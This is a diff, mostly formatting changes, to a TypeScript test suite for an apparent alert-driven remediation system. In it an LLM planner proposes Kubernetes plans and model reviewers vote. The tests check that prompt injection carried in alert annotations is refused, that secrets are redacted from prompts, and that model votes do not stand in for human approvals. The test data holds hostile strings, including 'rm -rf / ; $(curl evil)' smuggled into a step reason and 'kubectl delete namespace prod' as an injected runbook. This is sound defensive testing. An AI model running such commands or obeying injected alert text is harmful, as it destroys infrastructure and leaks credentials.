@@ -10,8 +10,8 @@ import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { publicKeyMap, verifyAuditChain } from '../src/audit/index.ts';
 import { type RunningExecutor, startExecutor } from '../src/executor/executor.ts';
-import { provisionTenant } from '../src/server/tenants.ts';
 import { systemRuntime } from '../src/runtime.ts';
+import { provisionTenant } from '../src/server/tenants.ts';
 import { amPayload, configureAlerts, crashLabels, postAm, restartPlaybook, SECRETS } from './support/alerts.ts';
 import { ENGINES } from './support/engines.ts';
 import { configureExecutor, waitForExecution } from './support/execution.ts';
@@ -39,7 +39,7 @@ function plannerAnswer(user: string): string {
   const answers: Record<string, unknown> = {
     'unknown-tool': { environment: env, steps: [step({ reason: 'x' }, 'kubectl-ng')] },
     'other-env': { environment: 'dmz', steps: [step({ reason: 'x' })] },
-    'sensitive': { environment: env, steps: [step({ namespace: 'kube-system', reason: 'x' })] },
+    sensitive: { environment: env, steps: [step({ namespace: 'kube-system', reason: 'x' })] },
     'bad-schema': { environment: env, steps: [step({ reason: 'rm -rf / ; $(curl evil)' })] },
   };
   return `Here is the plan:\n${JSON.stringify(answers[dep] ?? { environment: env, steps: [step({ reason: 'restart after repeated OOM kills' })] })}`;
@@ -49,8 +49,12 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
   let s: TestServer;
   let models: FakeModelServer;
   let executor: RunningExecutor | null = null;
-  const fire = (alertname: string, labels: Record<string, string>, annotations: Record<string, string> = {}, key = `${alertname}-${labels.deployment}`) =>
-    postAm(s, amPayload(key, [{ alertname, fingerprint: `${key}-fp`, labels, annotations }]));
+  const fire = (
+    alertname: string,
+    labels: Record<string, string>,
+    annotations: Record<string, string> = {},
+    key = `${alertname}-${labels.deployment}`,
+  ) => postAm(s, amPayload(key, [{ alertname, fingerprint: `${key}-fp`, labels, annotations }]));
 
   before(async () => {
     models = await startFakeModelServer();
@@ -60,7 +64,9 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
       obedientModel((r) => plannerAnswer(r.user)),
     );
     models.script('fake-rev1', () => '{"vote": "approve", "reason": "restart fits a crash loop"}');
-    models.script('fake-rev2', (r) => (r.user.includes('"name": "gated"') ? '{"vote": "reject", "reason": "no"}' : '{"vote": "approve", "reason": "ok"}'));
+    models.script('fake-rev2', (r) =>
+      r.user.includes('"name": "gated"') ? '{"vote": "reject", "reason": "no"}' : '{"vote": "approve", "reason": "ok"}',
+    );
     models.script('fake-rev3', () => '{"vote": "reject", "reason": "a restart hides the memory leak"}');
     s = await startTestServer(sqlite, {
       env: { ...process.env, ...SECRETS },
@@ -83,7 +89,10 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
   });
 
   test('an injected annotation changes nothing: only the template step, no value from the annotation', async () => {
-    const res = await fire('InjectedCrash', crashLabels('dev', 'shop', 'web'), { description: INJECTION, runbook: 'kubectl delete namespace prod' });
+    const res = await fire('InjectedCrash', crashLabels('dev', 'shop', 'web'), {
+      description: INJECTION,
+      runbook: 'kubectl delete namespace prod',
+    });
     assert.equal(res.status, 202, JSON.stringify(res.body));
     const plan = await s.request('GET', `/v1/plans/${res.body.proposed[0].planId}`);
     assert.deepEqual(
@@ -97,11 +106,16 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
 
   test('a planner that obeys the injection gets its plan refused with the reason; nothing is proposed', async () => {
     const before = models.requests.length;
-    const res = await fire('ObeyCrash', crashLabels('dev', 'shop', 'obeyed'), { description: `${INJECTION}. key ${AWS_KEY}, token ${SECRETS.CS_AM}` });
+    const res = await fire('ObeyCrash', crashLabels('dev', 'shop', 'obeyed'), {
+      description: `${INJECTION}. key ${AWS_KEY}, token ${SECRETS.CS_AM}`,
+    });
     assert.equal(res.status, 202, JSON.stringify(res.body));
     const [outcome] = res.body.proposed;
     assert.equal(outcome.planId, undefined);
-    assert.ok(outcome.refused.some((r: string) => /template "delete-namespace" is not in playbook obey/.test(r)), outcome.refused.join('\n'));
+    assert.ok(
+      outcome.refused.some((r: string) => /template "delete-namespace" is not in playbook obey/.test(r)),
+      outcome.refused.join('\n'),
+    );
     assert.ok(outcome.refused.some((r: string) => /environment "prod" is not the alert's environment "dev"/.test(r)));
     const [prompt] = models.requests.slice(before);
     assert.ok(prompt, 'the planner was asked');
@@ -114,7 +128,10 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
     assert.ok(!prompt.user.includes(AWS_KEY) && !prompt.user.includes(SECRETS.CS_AM), 'secrets are redacted from the prompt');
     const plans = await rawSql(s, "select id from plans where intent like '%obeyed%'");
     assert.equal(plans.length, 0);
-    const [audit] = await rawSql(s, "select details from audit_log where action = 'alert.plan' and details like '%obey%' and details like '%refused%'");
+    const [audit] = await rawSql(
+      s,
+      "select details from audit_log where action = 'alert.plan' and details like '%obey%' and details like '%refused%'",
+    );
     assert.ok(audit, 'the refusal is audited with its reasons');
     const [group] = await rawSql(s, "select state, reason from alert_groups where playbook = 'obey'");
     assert.equal(group.state, 'closed');
@@ -133,7 +150,10 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
       const res = await fire('PlannedCrash', crashLabels('dev', 'shop', dep));
       const [outcome] = res.body.proposed;
       assert.equal(outcome.planId, undefined, dep);
-      assert.ok(outcome.refused.some((r: string) => reason.test(r)), `${dep}: ${outcome.refused.join('\n')}`);
+      assert.ok(
+        outcome.refused.some((r: string) => reason.test(r)),
+        `${dep}: ${outcome.refused.join('\n')}`,
+      );
     }
     const [planner] = await rawSql(s, "select details from audit_log where action = 'alert.plan' and details like '%kubectl-ng%'");
     assert.match(String(planner.details), /"tokens":\d+/, 'planner usage is recorded with the refusal');
@@ -180,11 +200,17 @@ describe('the LLM planner and model reviewers (sqlite)', { skip: sqlite.skip }, 
     assert.equal(origin.reviews.votes.length, 3);
     let plan = (await s.request('GET', `/v1/plans/${planId}`)).body;
     assert.equal(plan.environment, 'prod');
-    const first = await s.request('POST', `/v1/plans/${planId}/approvals`, { key: a.key, body: { decision: 'approve', planHash: plan.hash } });
+    const first = await s.request('POST', `/v1/plans/${planId}/approvals`, {
+      key: a.key,
+      body: { decision: 'approve', planHash: plan.hash },
+    });
     assert.equal(first.status, 201, JSON.stringify(first.body));
     plan = (await s.request('GET', `/v1/plans/${planId}`)).body;
     assert.equal(plan.status, 'pending_approval', 'one human and two model votes are not two humans');
-    const second = await s.request('POST', `/v1/plans/${planId}/approvals`, { key: b.key, body: { decision: 'approve', planHash: plan.hash } });
+    const second = await s.request('POST', `/v1/plans/${planId}/approvals`, {
+      key: b.key,
+      body: { decision: 'approve', planHash: plan.hash },
+    });
     assert.equal(second.status, 201, JSON.stringify(second.body));
     const exec = await s.request('POST', `/v1/plans/${planId}/executions`, { body: {} });
     assert.equal(exec.status, 201, JSON.stringify(exec.body));
